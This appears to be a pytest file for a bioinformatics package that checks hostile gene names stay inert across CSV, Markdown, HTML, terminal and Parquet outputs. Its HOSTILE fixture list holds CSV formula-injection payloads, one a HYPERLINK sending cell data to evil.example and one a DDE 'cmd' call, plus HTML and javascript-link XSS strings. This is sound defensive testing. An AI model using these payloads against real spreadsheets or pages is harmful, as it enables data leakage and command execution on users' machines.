"""Hostile names through every output format: CSV formulas, Markdown HTML / links / headings, terminal
emoji codes; what coreperturb writes must stay inert text."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from coreperturb._escape import csv_safe, md_text
from coreperturb.data._io import read_any
from coreperturb.report._html import markdown_table
from coreperturb.report._prediction_files import PredictionWriter
from coreperturb.report._prediction_report import build_prediction_report
from coreperturb.stages import GRID_COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tTAB",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/t.png)",
    "G1\n# injected heading",
    "FOO:x:1",
]


def _frame(names: list[str]) -> pd.DataFrame:
    n = len(names)
    rng = np.random.default_rng(0)
    f = pd.DataFrame({c: rng.random(n) for c in GRID_COLUMNS})
    for c in ("cell_line", "method", "call", "call_dir", "flag"):
        f[c] = {"cell_line": "k562", "method": "core_voting", "call": "DE", "call_dir": "up", "flag": ""}[c]
    f["perturbation"] = names
    f["gene"] = names[::-1]
    f["n_pos_evidence"] = np.arange(n, dtype=np.int32)
    f["n_neg_evidence"] = np.arange(n, dtype=np.int32)
    f["kg_coverage"] = np.float32(0.5)
    f["on_target"] = False
    f["excess"] = -0.25  # a negative number stays a number
    return f[list(GRID_COLUMNS)]


def test_csv_cells_never_start_a_formula_and_read_back_as_written(tmp_path: Path) -> None:
    frame = _frame(HOSTILE)
    with PredictionWriter(tmp_path / "p.csv") as w:
        w.write(frame)
    raw = (tmp_path / "p.csv").read_text()
    for line in raw.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.strip('"').startswith(("=", "+", "@", "\t")), cell
    back = read_any(tmp_path / "p.csv")
    assert list(back["perturbation"]) == HOSTILE  # our reader drops the guard quote
    assert (back["excess"] == -0.25).all()
    assert csv_safe(pd.DataFrame({"x": [1.0, -2.0]})).equals(pd.DataFrame({"x": [1.0, -2.0]}))


def test_markdown_is_inert() -> None:
    for name in HOSTILE:
        text = md_text(name)
        assert "<" not in text and "\n" not in text and not re.search(r"(?<!\\)\]\(", text)
    table = markdown_table(pd.DataFrame({"gene": HOSTILE, "p": np.linspace(0, 1, len(HOSTILE))}))
    assert "<img" not in table and not re.search(r"(?<!\\)\]\(javascript", table)
    assert all(line.startswith("|") for line in table.splitlines())  # no row broken out of the table


def test_prediction_report_markdown_and_html_escape_every_name(tmp_path: Path) -> None:
    frame = _frame(HOSTILE).assign(excess=0.5, p_de=0.9, p_prior=0.4)
    frame.to_parquet(tmp_path / "evil.parquet")
    html, md = build_prediction_report(tmp_path / "evil.parquet")
    text = md.read_text()
    assert "<img" not in text and not re.search(r"(?<!\\)\]\((javascript|http)", text)
    assert not [line for line in text.splitlines() if line.startswith("# injected")]
    page = html.read_text()
    assert "<img src=x" not in page and "onerror=alert" not in page.replace("onerror=alert(1)&gt;", "")


@pytest.mark.parametrize("name", ["FOO:x:1", "[bold]red[/bold]"])
def test_terminal_prints_names_as_typed(name: str) -> None:
    from coreperturb.cli._app import console

    with console.capture() as cap:
        from coreperturb.cli._render import say

        say(f"warning: perturbation {name!r} is unknown")
    assert name in cap.get()


def test_parquet_and_json_keep_names_exactly(tmp_path: Path) -> None:
    import json

    frame = _frame(HOSTILE)
    with PredictionWriter(tmp_path / "p.parquet") as w:
        w.write(frame)
    assert list(pd.read_parquet(tmp_path / "p.parquet")["perturbation"]) == HOSTILE  # data, never run
    assert json.loads(json.dumps({"names": HOSTILE}))["names"] == HOSTILE
